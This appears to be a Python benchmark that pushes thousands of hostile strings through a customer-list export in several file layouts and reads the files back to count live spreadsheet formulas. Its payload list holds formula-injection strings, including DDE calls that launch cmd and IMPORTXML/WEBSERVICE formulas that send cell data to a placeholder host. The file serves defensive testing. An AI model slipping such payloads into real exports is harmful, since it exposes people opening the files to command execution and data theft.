"""Thousands of hostile texts through every export, read again with four separators: is a formula live, is an id or a text another one?

    python -m benchmarks.exports              # 10,000 generated texts and 150 payloads

Each text stands in turn for the id, the tier, the action and the reason of a customer, and for their name, telephone and
e-mail address. Layouts of other systems have to refuse such ids (E344, E347); with sound ids and hostile contact details they leave. What
is live is our own reading of what spreadsheets do, not that of the product.
"""

import argparse
import csv
import io
import random
import re
import tempfile
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from dataclasses import asdict, dataclass
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
from openpyxl.utils.escape import unescape

from features.errors import HeadwaterError
from pipelines.delivery import addresses
from pipelines.delivery.export import ExportContext, write_list
from pipelines.delivery.presets import Preset, presets
from pipelines.workspace import files
from targeting.list_settings import ListSettings
from targeting.ranking import ListResult, churn_list
from tests.scores_sample import sample_scores

OUT = Path("workspace/exports.json")
COUNT = 10_000
BODIES = (
    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－2+3", "＠SUM(1)",
    "=WEBSERVICE(\"http://x\")", "\t=1", "\r=1",
)  # fmt: skip
STARTS = ("", "x,", "x;", "x|", "x\t", "\n", "\ufeff", "\u200b\u00a0", '"', "a\r\n\u2028")
PAYLOADS = [start + body for start in STARTS for body in BODIES]
LETTERS = list("=+-@＝＋－＠,;|\t\r\n\0\"' \ufeff\u200b\u00a0\u2028aZ19流失%()!")
PLAIN = re.compile(r"-?[0-9]+(\.[0-9]+)?|\+[0-9]{6,15}(,.*)?")
"""Numbers and telephones, which a layout declares."""
TRIGGERS = set("\t\r\n\0")
WRITTEN = ("customer_id", "tier_current", "recommended_action")
"""Columns whose texts come from outside."""
REFUSED = ("E344", "E347")


@dataclass(frozen=True)
class Found:
    """What came of all texts in one layout.

    Attributes
    ----------
    layout
        Its name, with what stood where.
    texts
        How many.
    live
        Cells that a spreadsheet would run.
    altered
        Texts that are not read back as they were, but for guarding apostrophes.
    refused
        The error that stopped the file; None where it left.
    """

    layout: str
    texts: int
    live: int
    altered: int
    refused: str | None = None


def generated(count: int, seed: int) -> list[str]:
    """Texts of up to 14 letters, most of which mean something to a spreadsheet."""
    draw = random.Random(seed)
    return ["".join(draw.choices(LETTERS, k=draw.randint(1, 14))) for _ in range(count)]


def listed(texts: list[str]) -> ListResult:
    """A list with a row per text, which stands wherever a text from outside can stand."""
    drawn, count = churn_list(sample_scores(400), ListSettings(top=60)), len(texts)
    rows = drawn.rows.iloc[np.arange(count) % len(drawn.rows)].reset_index(drop=True)
    rows = rows.assign(rank=np.arange(1, count + 1), **{column: pd.Series(texts, dtype=object) for column in WRITTEN})
    reason = {"code": "plan", "feature": "plan", "peer_value": "P1", "rank": 1, "direction": 1, "contribution": 0.5}
    rows["churn_reasons"] = [[reason | {"value": text}] for text in texts]
    return ListResult(**{**vars(drawn), "rows": rows})


def details_of(texts: list[str], ids: list[str]) -> pd.DataFrame:
    """Contact details in which every text comes from outside, as they are joined at export; everybody has an address of their own."""
    told = pd.Series(texts, index=ids, dtype=object)
    numbers = told.map(lambda text: addresses.phone(text, "+86"))
    mails = told.map(lambda text: addresses.email(f"{text}@example.com"))
    return pd.DataFrame(
        dict.fromkeys(("contact_name", "phone", "email"), told)
        | {"phone_e164": numbers, "phone_digits": numbers.str[1:]}
        | {"email_safe": mails.where(mails.notna() & ~mails.duplicated(), "u" + told.index + "@example.com")}
    )


def starts_formula(cell: str) -> bool:
    """Our own reading of what a spreadsheet does: skip quotes and everything invisible, then look at one character."""
    for char in cell:
        if char in TRIGGERS or unicodedata.normalize("NFKC", char)[:1] in {"=", "+", "-", "@"}:
            return True
        if not (char in "'\"" or char.isspace() or unicodedata.category(char) in {"Cf", "Cc", "Zs"}):
            return False
        if char == "'":
            return False  # a leading apostrophe makes the cell a text
    return False


def cells_under(text: str, separator: str) -> Iterator[str]:
    """The cells of a file as somebody may take them who separates by something else."""
    for line in text.splitlines():
        yield from line.split(separator)
        yield from next(csv.reader([line], delimiter=separator), [])


def live(text: str) -> list[str]:
    """Cells that a spreadsheet would run, whatever separator it takes; numbers and telephones, which a layout declares, are none."""
    cells = [cell for separator in ",;\t|" for cell in cells_under(text, separator)]
    return [cell for cell in cells if starts_formula(cell) and not PLAIN.fullmatch(cell.strip('"'))]


def trial(name: str, folder: Path, texts: list[str], *, contacts: bool) -> Found:
    """One layout with these texts as ids and words, or as contact details of sound ids.

    Parameters
    ----------
    name
        Of the layout.
    folder
        Where its file is written.
    texts
        Hostile ones.
    contacts
        Do they stand for names, telephones and addresses?
    """
    ids = [f"{number:06d}" for number in range(len(texts))] if contacts else texts
    context = ExportContext(details=details_of(texts, ids) if contacts else None)
    shape, path = presets()[name].of("churn", contacts), folder / f"{name}.xlsx"
    label = f"{name}, {'contact details' if contacts else 'ids and words'}"
    try:
        write_list(listed(ids), path, name, context)
    except HeadwaterError as error:
        return Found(label, len(texts), 0, 0, error.problem.code)
    column = "phone" if contacts and shape.format in ("xlsx", "csv-excel", "parquet") else "customer_id"
    expected = texts if column == "phone" else ids
    return Found(label, len(texts), *_read_again(shape, path, column, expected))


def _read_again(shape: Preset, path: Path, column: str, expected: list[str]) -> tuple[int, int]:
    """Live cells of a file, and texts of a column that are others than they were."""
    sources = [one.source for one in shape.columns]
    if shape.format == "parquet":
        return 0, _differ(pq.read_table(path)[column].to_pylist(), expected)
    if shape.format == "xlsx":
        with closing(openpyxl.load_workbook(path, read_only=True)) as book:
            told = list(book.worksheets[0].iter_rows(min_row=2))
        formulas = sum(cell.data_type == "f" for row in told for cell in row)
        return formulas, _differ([unescape(row[sources.index(column)].value) for row in told], expected)
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    found = [row[sources.index(column)].replace("'", "") for row in rows]
    return len(live(text)), _differ(found, [one.replace("'", "") for one in expected])


def _differ(found: list[str], expected: list[str]) -> int:
    return sum(a != b for a, b in zip(found, expected, strict=True))


def trials(texts: list[str]) -> list[Found]:
    """Every layout, with the texts as ids and words and as contact details."""
    with tempfile.TemporaryDirectory() as folder:
        return [trial(name, Path(folder), texts, contacts=contacts) for name in presets() for contacts in (False, True)]


def summary(found: list[Found]) -> dict[str, int]:
    """Of all layouts: files that left and that were refused as they had to be, live cells, and texts that are others."""
    return {
        "texts": found[0].texts,
        "files": sum(one.refused is None for one in found),
        "refused": sum(one.refused in REFUSED for one in found),
        "wrongly_stopped": sum(one.refused is not None and one.refused not in REFUSED for one in found),
        "live": sum(one.live for one in found),
        "altered": sum(one.altered for one in found),
    }


def main() -> None:
    """Write every layout, read it again, print and keep what came of it."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=COUNT)
    found = trials(PAYLOADS + generated(parser.parse_args().count, seed=2))
    for one in found:
        print(f"{one.layout:32} live {one.live}, altered {one.altered}" + (f", {one.refused}" if one.refused else ""))
    OUT.parent.mkdir(parents=True, exist_ok=True)
    files.write_json(OUT, {"layouts": [asdict(one) for one in found], "summary": summary(found)})


if __name__ == "__main__":
    main()
